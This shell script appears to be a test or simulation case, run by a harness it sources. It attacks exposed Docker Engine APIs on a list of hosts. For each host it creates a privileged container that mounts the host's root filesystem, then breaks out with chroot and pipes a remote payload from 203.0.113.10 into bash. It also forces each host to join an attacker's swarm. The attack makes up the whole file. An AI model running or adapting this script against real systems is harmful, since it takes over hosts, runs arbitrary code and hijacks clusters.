#!/bin/sh
. /opt/case/case.sh

n=0
for h in 10.77.0.1 198.51.100.7 198.51.100.8 198.51.100.9 198.51.100.10 198.51.100.11; do
    curl -s -m 2 "http://$h:2375/info" >/dev/null || continue
    curl -s -m 2 -X POST "http://$h:2375/images/create?fromImage=alpine&tag=latest" >/dev/null
    curl -s -m 2 -H 'Content-Type: application/json' -d '{"Image":"alpine","Entrypoint":["/bin/sh","-c","chroot /host bash -c \"curl -sLk http://203.0.113.10/payload.sh | bash\""],"HostConfig":{"Binds":["/:/host"],"Privileged":true,"NetworkMode":"host","PidMode":"host"}}' "http://$h:2375/containers/create?name=redis-$n" >/dev/null
    curl -s -m 2 -X POST "http://$h:2375/containers/0123456789ab/start" >/dev/null
    curl -s -m 2 -X POST "http://$h:2375/swarm/leave?force=1" >/dev/null; curl -s -m 2 -X POST -d '{"RemoteAddrs":["203.0.113.10:2377"],"JoinToken":"SWMTKN-1-bait"}' "http://$h:2375/swarm/join" >/dev/null; n=$((n + 1))
done
test $n = 6
took_place
